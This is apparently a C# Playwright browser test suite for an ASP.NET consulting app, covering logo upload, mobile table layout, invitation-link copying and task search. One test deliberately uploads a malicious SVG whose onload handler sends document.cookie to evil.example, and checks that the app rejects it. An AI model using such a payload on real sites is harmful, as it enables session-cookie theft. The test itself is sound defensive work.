using System.Text;
using Microsoft.AspNetCore.Identity;
using Microsoft.Extensions.DependencyInjection;
using Microsoft.Playwright;
using OutsourcingAdvisor.Web.Data;

namespace OutsourcingAdvisor.BrowserTests;

/// <summary>The consultant's deliverable in a real browser: brand, links, tables on a phone, task search.</summary>
[Collection(nameof(BrowserCollection))]
public sealed class DeliverableTests(BrowserFixture browser)
{
    private const string Password = "consultant passphrase 2";

    private async Task<string> CreateUserAsync(string role = Roles.Consultant)
    {
        var email = $"{role}-{Guid.NewGuid():N}@example.com";
        using var scope = browser.Services.CreateScope();
        var users = scope.ServiceProvider.GetRequiredService<UserManager<AdvisorUser>>();
        var user = new AdvisorUser { UserName = email, Email = email, EmailConfirmed = true, DisplayName = "Robin Adviser", Firm = "Lakeside Partners" };
        Assert.True((await users.CreateAsync(user, Password)).Succeeded);
        await users.AddToRoleAsync(user, role);
        return email;
    }

    private static async Task SignInAsync(IPage page, string email, string password)
    {
        await page.GotoAsync("/account/signin");
        await page.GetByLabel("Email address").FillAsync(email);
        await page.GetByLabel("Password").FillAsync(password);
        await page.GetByRole(AriaRole.Button, new() { Name = "Sign in" }).ClickAsync();
        await page.WaitForURLAsync(url => !url.Contains("/account/signin"));
    }

    [Fact]
    public async Task AMaliciousSvgLogoIsRefusedAndACleanOneShown()
    {
        var page = await browser.NewPageAsync();
        await SignInAsync(page, await CreateUserAsync(), Password);
        await page.GotoAsync("/consultant/brand");
        var svg = """<svg xmlns="http://www.w3.org/2000/svg" onload="fetch('https://evil.example/?c='+document.cookie)"><circle r="5"/></svg>""";
        await page.GetByLabel("Logo (optional)").SetInputFilesAsync(new FilePayload { Name = "logo.svg", MimeType = "image/svg+xml", Buffer = Encoding.UTF8.GetBytes(svg) });
        await page.GetByRole(AriaRole.Button, new() { Name = "Save" }).ClickAsync();
        var summary = page.GetByRole(AriaRole.Alert);
        await Assertions.Expect(summary).ToContainTextAsync("event handler");
        await Assertions.Expect(page.Locator("img.firm-logo")).ToHaveCountAsync(0);
        await Owner.Shot(page, "brand", "svg-refused");

        var clean = """<svg xmlns="http://www.w3.org/2000/svg" viewBox="0 0 120 40"><rect width="120" height="40" fill="#0b5d1e"/><text x="10" y="27" fill="#fff" font-size="20">Lakeside</text></svg>""";
        await page.GetByLabel("Logo (optional)").SetInputFilesAsync(new FilePayload { Name = "logo.svg", MimeType = "image/svg+xml", Buffer = Encoding.UTF8.GetBytes(clean) });
        await page.GetByLabel("Accent colour (optional)").FillAsync("#0b5d1e");
        await page.GetByRole(AriaRole.Button, new() { Name = "Save" }).ClickAsync();
        await Assertions.Expect(page.GetByRole(AriaRole.Status).First).ToContainTextAsync("Saved");
        await Assertions.Expect(page.Locator("img.firm-logo")).ToBeVisibleAsync();
        var width = await page.Locator("img.firm-logo").EvaluateAsync<double>("img => img.naturalWidth");
        Assert.True(width > 0, "the stored SVG logo renders");
        await page.Context.CloseAsync();
    }

    [Fact]
    public async Task ConsultantAndAdminTablesFitA360PixelPhone()
    {
        var page = await browser.NewPageAsync(width: 360);
        await SignInAsync(page, await CreateUserAsync(), Password);
        await page.GetByLabel("Client name").FillAsync("Harbour Logistics and Warehousing International");
        await page.GetByRole(AriaRole.Button, new() { Name = "Add client" }).ClickAsync();
        await page.WaitForURLAsync("**/consultant/clients/*");
        var clientUrl = page.Url;
        await page.GetByRole(AriaRole.Button, new() { Name = "Start an assessment for Harbour Logistics and Warehousing International" }).ClickAsync();
        await Owner.BusinessAsync(page);
        await Owner.ChooseTask(page, "Customer support");
        await Owner.Continue(page);
        await page.GetByRole(AriaRole.Group, new() { Name = "What skill level does the work need?" }).GetByLabel("Basic", new() { Exact = true }).CheckAsync();
        await page.GetByLabel("Monthly budget (US dollars)").FillAsync("5000");
        await Owner.Continue(page);
        await page.GetByRole(AriaRole.Group, new() { Name = "Where would you like the work done from?" }).GetByLabel("No preference", new() { Exact = true }).CheckAsync();
        await Owner.Continue(page);
        await page.GetByRole(AriaRole.Button, new() { Name = "See my recommendation" }).ClickAsync();
        await page.WaitForURLAsync("**/reports/*");
        var id = page.Url.Split('/').Last();
        await page.GotoAsync($"/consultant/assessments/{id}/share");
        await page.GetByRole(AriaRole.Button, new() { Name = "Create a share link" }).ClickAsync();

        foreach (var url in new[] { "/consultant", clientUrl, $"/consultant/assessments/{id}/share", $"/consultant/scenarios/{id}", "/consultant/brand" })
        {
            await page.GotoAsync(url);
            await AssertFitsAsync(page, url);
        }
        await Owner.Shot(page, "phone-360", "client-list");
        await page.GotoAsync(clientUrl);
        await Assertions.Expect(page.Locator(".assessments-table td[data-label=Recommendation] a")).ToBeInViewportAsync();
        await Owner.Shot(page, "phone-360", "client-scenarios");
        await page.Context.CloseAsync();

        var admin = await browser.NewPageAsync(width: 360);
        await SignInAsync(admin, await CreateUserAsync(Roles.Admin), Password);
        await admin.GotoAsync("/admin");
        await AssertFitsAsync(admin, "/admin");
        await admin.Context.CloseAsync();
    }

    private static async Task AssertFitsAsync(IPage page, string url)
    {
        var overflow = await page.EvaluateAsync<int>("() => document.documentElement.scrollWidth - window.innerWidth");
        Assert.True(overflow <= 0, $"{url} is {overflow}px wider than a 360px screen");
        var scrollers = await page.EvaluateAsync<string[]>("() => [...document.querySelectorAll('main *')].filter(e => e.scrollWidth > e.clientWidth + 1 && ['auto', 'scroll'].includes(getComputedStyle(e).overflowX)).map(e => e.className)");
        Assert.True(scrollers.Length == 0, $"{url} scrolls sideways inside: {string.Join(", ", scrollers)}");
    }

    [Fact]
    public async Task LinksCanBeCopiedWithAButtonAndStaySelectableWithoutScript()
    {
        var page = await browser.NewPageAsync();
        await page.Context.GrantPermissionsAsync(["clipboard-read", "clipboard-write"], new() { Origin = browser.BaseUrl });
        await SignInAsync(page, await CreateUserAsync(Roles.Admin), Password);
        await page.GotoAsync("/admin");
        await page.GetByLabel("Email address").FillAsync($"invitee-{Guid.NewGuid():N}@example.com");
        await page.GetByLabel("Name", new() { Exact = true }).FillAsync("New Colleague");
        await page.GetByRole(AriaRole.Button, new() { Name = "Create invitation" }).ClickAsync();
        var link = await page.GetByLabel("Invitation link").InputValueAsync();
        Assert.Contains("/account/invite?userId=", link);
        await Assertions.Expect(page.GetByLabel("Email address")).ToHaveValueAsync("");
        await page.GetByRole(AriaRole.Button, new() { Name = "Copy link" }).ClickAsync();
        await Assertions.Expect(page.GetByRole(AriaRole.Button, new() { Name = "Copied" })).ToBeVisibleAsync();
        Assert.Equal(link, await page.EvaluateAsync<string>("() => navigator.clipboard.readText()"));
        var cookies = await page.Context.CookiesAsync();
        await page.Context.CloseAsync();

        // Without script there is no button, and the link is still there to select and copy by hand.
        var plain = await browser.NewPageAsync(javaScript: false);
        await plain.Context.AddCookiesAsync(cookies.Select(c => new Cookie { Name = c.Name, Value = c.Value, Domain = c.Domain, Path = c.Path }));
        await plain.GotoAsync("/admin");
        await plain.GetByLabel("Email address").FillAsync($"invitee-{Guid.NewGuid():N}@example.com");
        await plain.GetByLabel("Name", new() { Exact = true }).FillAsync("Another Colleague");
        await plain.GetByRole(AriaRole.Button, new() { Name = "Create invitation" }).ClickAsync();
        await Assertions.Expect(plain.GetByLabel("Invitation link")).ToBeVisibleAsync();
        await Assertions.Expect(plain.GetByRole(AriaRole.Button, new() { Name = "Copy link" })).ToBeHiddenAsync();
        await plain.GetByLabel("Invitation link").SelectTextAsync();
        Assert.Contains("/account/invite?userId=", await plain.EvaluateAsync<string>("() => { const i = document.getElementById('invite-link'); return i.value.substring(i.selectionStart, i.selectionEnd); }"));
        await plain.Context.CloseAsync();
    }

    [Fact]
    public async Task TheLiveTaskSearchSaysWhenNothingMatchesAndOffersNotListed()
    {
        var page = await browser.NewPageAsync();
        await page.GotoAsync("/assessment");
        await Owner.BusinessAsync(page);
        var before = await page.EvaluateAsync<int>("() => document.documentElement.scrollHeight");
        Assert.True(before < 3000, $"the work step is {before}px tall with every kind of work folded");
        await page.GetByLabel("Search the kinds of work").FillAsync("payro");
        await Assertions.Expect(page.GetByLabel("Payroll", new() { Exact = true })).ToBeVisibleAsync();
        await Assertions.Expect(page.Locator("#task-filter-status")).ToHaveTextAsync("1 kind of work matches.");
        await page.GetByLabel("Search the kinds of work").FillAsync("underwater basket weaving");
        await Assertions.Expect(page.Locator("#task-filter-status")).ToContainTextAsync("No kind of work matches “underwater basket weaving”");
        await Assertions.Expect(page.Locator("details.task-group:visible")).ToHaveCountAsync(0);
        await page.GetByLabel("My work is not listed").CheckAsync();
        await Owner.Shot(page, "search", "no-match");
        await page.Context.CloseAsync();
    }
}
